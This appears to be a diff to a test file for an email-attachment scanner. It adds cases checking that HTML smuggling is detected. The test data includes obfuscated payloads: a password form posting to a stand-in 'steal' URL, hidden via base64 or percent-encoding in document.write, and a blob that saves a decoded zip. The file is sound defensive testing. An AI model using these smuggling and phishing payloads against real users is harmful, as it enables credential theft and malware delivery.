@@ -20,7 +20,7 @@ test.each([
   [
     'a file in a blob',
     `<script>var b=new Blob([Uint8Array.from(atob("${payload}"),c=>c.charCodeAt(0))]);a.href=URL.createObjectURL(b);a.download="a.zip"</script>`,
-    ['script', 'atob', 'blob', 'object-url', 'save-blob', 'long-base64', 'hidden-payload', 'smuggling'],
+    ['script', 'long-base64', 'hidden-payload', 'atob', 'blob', 'object-url', 'save-blob', 'smuggling'],
   ],
   [
     'a page in unescape',
@@ -68,6 +68,20 @@ test.each([
 ])('inspectAttachment() links of an HTML file: %s', (_, html, want) => {
   const { links } = inspect('a.html', utf8(`<html>${html}`))
   expect(links.map((l) => [l.source, l.href, l.shown])).toEqual(want)
+})
+
+const login = '<form action="https://example.com/steal"><input type="password"></form>'
+
+test.each([
+  ['base64', `<script>document.write(atob("${btoa(`<html>${' '.repeat(300)}${login}`)}"))</script>`],
+  [
+    'percent signs',
+    `<script>document.write(unescape("${login.replace(/[^a-z]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)}"))</script>`,
+  ],
+])('inspectAttachment() looks into a page hidden in %s', (_, html) => {
+  const a = inspect('a.html', utf8(`<html>${html}`))
+  expect(a.marks).toEqual(expect.arrayContaining(['smuggling', 'form-password', 'external-form']))
+  expect(a.links.map((l) => l.href)).toContain('https://example.com/steal')
 })
 
 test('inspectAttachment() text of links in Shift_JIS and UTF-16', () => {
